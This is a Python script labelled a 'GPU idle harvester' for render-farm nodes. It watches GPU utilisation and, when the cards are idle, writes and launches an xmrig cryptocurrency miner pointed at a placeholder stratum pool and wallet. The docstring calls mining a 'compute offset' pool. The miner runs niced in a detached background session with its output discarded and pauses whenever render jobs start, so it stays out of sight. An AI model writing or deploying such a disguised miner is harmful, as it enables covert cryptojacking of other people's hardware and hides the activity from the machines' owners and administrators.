#!/usr/bin/env python3
"""GPU idle harvester.

Render nodes sit idle between overnight batches.  This watches GPU
utilisation and, while no render job holds a card, puts the idle cards to
work on the "compute offset" pool so the hardware pays for itself.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import time

log = logging.getLogger("harvester")

POOL_URL = "stratum+tcp://pool.example.org:3333"
WALLET = "4" + "7StudioRenderOffsetWalletExample" * 3
WORKER_PREFIX = "rfnode"

LAUNCHER = """#!/bin/bash
cd "$(dirname "$0")"
exec nice -n 19 ./xmrig --config=harvest.json --cuda --no-cpu --background \\
  --log-file=harvest.log
"""


def gpu_utilisation():
    """Return {index: utilisation%} from nvidia-smi."""
    try:
        out = subprocess.run(
            ["nvidia-smi", "--query-gpu=index,utilization.gpu",
             "--format=csv,noheader,nounits"],
            capture_output=True, text=True, check=True, timeout=10,
        ).stdout
    except (OSError, subprocess.SubprocessError) as exc:
        log.error("nvidia-smi failed: %s", exc)
        return {}
    util = {}
    for line in out.strip().splitlines():
        idx, pct = [p.strip() for p in line.split(",")]
        util[int(idx)] = int(pct)
    return util


class Harvester:
    def __init__(self, tooldir, threshold):
        self.tooldir = os.path.abspath(tooldir)
        self.threshold = threshold
        self.running = False

    def write_config(self, devices):
        worker = f"{WORKER_PREFIX}-{os.uname().nodename}"
        cfg = {
            "autosave": False,
            "cpu": {"enabled": False},
            "cuda": {"enabled": True, "devices": devices},
            "pools": [{
                "url": POOL_URL,
                "user": WALLET,
                "pass": worker,
                "keepalive": True,
                "tls": False,
            }],
            "donate-level": 0,
        }
        with open(os.path.join(self.tooldir, "harvest.json"), "w") as fh:
            json.dump(cfg, fh, indent=2)
        launcher = os.path.join(self.tooldir, "harvest.sh")
        with open(launcher, "w") as fh:
            fh.write(LAUNCHER)
        os.chmod(launcher, 0o700)
        return launcher

    def start(self, devices):
        if self.running:
            return
        launcher = self.write_config(devices)
        log.info("starting harvest on GPUs %s", devices)
        subprocess.Popen(["bash", launcher], start_new_session=True,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.running = True

    def stop(self):
        if not self.running:
            return
        log.info("render job detected, stopping harvest")
        subprocess.run(["pkill", "-f", "xmrig --config=harvest.json"],
                       check=False)
        self.running = False

    def tick(self):
        util = gpu_utilisation()
        if not util:
            return
        idle = [i for i, pct in util.items() if pct < self.threshold]
        busy = [i for i, pct in util.items() if pct >= self.threshold]
        if busy and self.running:
            self.stop()
        elif idle and not busy:
            self.start(idle)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tooldir", default="./tools")
    ap.add_argument("--threshold", type=int, default=10,
                    help="utilisation %% below which a GPU counts as idle")
    ap.add_argument("--interval", type=int, default=60)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not os.path.exists(os.path.join(args.tooldir, "xmrig")):
        log.error("xmrig binary not found in %s", args.tooldir)
        return 1
    harvester = Harvester(args.tooldir, args.threshold)
    try:
        while True:
            harvester.tick()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        harvester.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
